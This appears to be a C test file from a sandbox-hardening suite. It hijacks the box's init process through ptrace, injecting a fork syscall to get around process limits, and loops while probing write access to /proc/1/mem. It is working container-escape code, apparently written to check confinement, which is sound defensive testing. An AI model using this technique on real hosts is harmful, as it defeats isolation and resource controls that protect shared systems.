/* Take over the box's init, which no limit binds, and have it fork. Only in a box; x86_64 only. */
#include "adversary.h"

#include <fcntl.h>
#include <sys/uio.h>
#include <sys/user.h>

/* init waits in a call, so the instruction before is the one that makes calls. */
static long fork_by_init(void)
{
	struct user_regs_struct registers, changed;
	int status;

	if (ptrace(PTRACE_ATTACH, 1, 0, 0) < 0)
		return -errno;
	if (waitpid(1, &status, __WALL) < 0 || ptrace(PTRACE_GETREGS, 1, 0, &registers) < 0)
		return -errno;
	changed = registers;
	changed.rip -= 2;
	changed.rax = changed.orig_rax = SYS_fork;
	ptrace(PTRACE_SETREGS, 1, 0, &changed);
	ptrace(PTRACE_SINGLESTEP, 1, 0, 0);
	waitpid(1, &status, __WALL);
	ptrace(PTRACE_GETREGS, 1, 0, &changed);
	ptrace(PTRACE_SETREGS, 1, 0, &registers);
	ptrace(PTRACE_DETACH, 1, 0, 0);
	return (long)changed.rax;
}

static void siege(void)
{
	if (!is_boxed())
		return;
	while (one_more()) {
		int fd = open("/proc/1/mem", O_RDWR | O_CLOEXEC);

		if (fd >= 0)
			close(fd);
		note(fork_by_init());
	}
}
